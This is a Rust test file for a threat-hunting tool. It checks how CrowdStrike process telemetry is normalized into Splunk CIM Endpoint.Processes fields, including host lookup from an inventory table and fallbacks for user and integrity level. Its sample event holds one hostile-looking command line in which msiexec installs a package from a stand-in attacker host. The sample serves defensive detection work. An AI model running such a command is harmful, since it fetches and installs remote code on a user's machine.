//! CrowdStrike FDR `ProcessRollup2` through `tables/crowdstrike`: the fields cimhunt's former
//! hand-written normalizer gave (git 53e8cf6, `crates/normalize/src/crowdstrike.rs`), with the
//! aid inventory lookup, and the one documented difference (no bare-`aid` fallback for `dest`).

mod support;

use cimhunt_decode::{Decoded as Record, decode_json};
use cimhunt_model::tables::{LookupTable, Profile};
use cimhunt_model::{Decoded, Meta, Model};
use cimhunt_spl::{Record as _, Sym};
use support::*;

const EVENT: &str = r#"{"event_simpleName":"ProcessRollup2","timestamp":"1713805173418","aid":"168a90e125d443beb2a4e2914985084d","RawProcessId":"5012","ParentProcessId":"5459598860","ImageFileName":"\\Device\\HarddiskVolume1\\Windows\\System32\\msiexec.exe","CommandLine":"msiexec.exe /i https://evil.example/a.msi","ParentBaseFileName":"explorer.exe","UserName":"kim","UserSid":"S-1-5-21-1-500","SHA256HashData":"abc123","IntegrityLevel":"12288","ComputerName":""}"#;

fn with_inventory() -> Model {
    let mut p = Profile::escu().unwrap();
    p.supply_lookup(
        "crowdstrike_aidmaster",
        LookupTable::parse(
            "aidmaster.csv",
            "aid,ComputerName\n168a90e125d443beb2a4e2914985084d,WIN-HOST1\n",
        )
        .unwrap(),
    )
    .unwrap();
    Model::new(&p).unwrap()
}

/// The Processes view of a JSON record, as text.
fn processes(model: &Model, json: &str) -> Fields {
    let Record::Flat(flat) = decode_json(json.as_bytes()).unwrap() else {
        panic!("a flat event")
    };
    let want = want_all();
    let meta = Meta::default();
    let ev = model.event(Decoded::Flat(&flat), &meta, &want, Some(json));
    let ds = model.dataset("Endpoint.Processes").unwrap();
    let view = model.view(&ev, ds).expect("in Endpoint.Processes");
    let mut out: Fields = view
        .fields()
        .into_iter()
        .map(|(k, v)| (k.as_str().to_owned(), texts(&v)))
        .collect();
    for extra in ["process_exec", "parent_process_exec", "user_id", "tag"] {
        out.insert(extra.to_owned(), texts(&ev.value(Sym::new(extra))));
    }
    out
}

#[test]
fn the_former_normalizers_fields() {
    let f = processes(&with_inventory(), EVENT);
    let want: &[(&str, &[&str])] = &[
        // ComputerName is empty, so the inventory names the host.
        ("dest", &["WIN-HOST1"]),
        ("user", &["kim"]),
        ("user_id", &["S-1-5-21-1-500"]),
        ("process", &["msiexec.exe /i https://evil.example/a.msi"]),
        (
            "process_path",
            &[r"\Device\HarddiskVolume1\Windows\System32\msiexec.exe"],
        ),
        ("process_name", &["msiexec.exe"]),
        ("process_exec", &["msiexec.exe"]),
        ("parent_process_name", &["explorer.exe"]),
        ("parent_process_exec", &["explorer.exe"]),
        ("process_id", &["5012"]),
        ("parent_process_id", &["5459598860"]),
        ("process_hash", &["abc123"]),
        ("process_integrity_level", &["high"]),
        ("vendor_product", &["CrowdStrike Falcon"]),
        ("action", &["allowed"]),
        ("tag", &["process", "report"]),
        ("sourcetype", &["crowdstrike:events:sensor"]),
        ("_time", &["1713805173.418"]),
        ("original_file_name", &["unknown"]),
        // The input names the source (`Meta::source`); none was given here.
        ("source", &[]),
    ];
    for (field, values) in want {
        assert_eq!(
            f.get(*field).map(Vec::as_slice).unwrap_or(&[]),
            *values,
            "{field}"
        );
    }
}

#[test]
fn user_falls_back_to_the_sid_and_unknown_integrity_levels_stay_numeric() {
    let json = EVENT
        .replace(r#""UserName":"kim","#, "")
        .replace("12288", "77");
    let f = processes(&with_inventory(), &json);
    assert_eq!(f["user"], ["S-1-5-21-1-500"]);
    assert_eq!(f["process_integrity_level"], ["77"]);
}

#[test]
fn computer_name_wins_and_an_unknown_aid_leaves_dest_to_the_fill() {
    let named = EVENT.replace(r#""ComputerName":"""#, r#""ComputerName":"FROM-EVENT""#);
    assert_eq!(processes(&with_inventory(), &named)["dest"], ["FROM-EVENT"]);
    // The normalizer fell back to the bare aid; Splunk's order (EVAL before LOOKUP) cannot.
    let other = EVENT.replace("168a90e1", "00000000");
    assert_eq!(processes(&with_inventory(), &other)["dest"], ["unknown"]);
    assert_eq!(processes(escu(), EVENT)["dest"], ["unknown"]);
}

#[test]
fn other_event_types_are_not_processes() {
    let json = EVENT.replace("ProcessRollup2", "DnsRequest");
    let Record::Flat(flat) = decode_json(json.as_bytes()).unwrap() else {
        panic!()
    };
    let want = want_all();
    let meta = Meta::default();
    let m = with_inventory();
    let ev = m.event(Decoded::Flat(&flat), &meta, &want, Some(&json));
    assert!(
        m.view(&ev, m.dataset("Endpoint.Processes").unwrap())
            .is_none()
    );
}
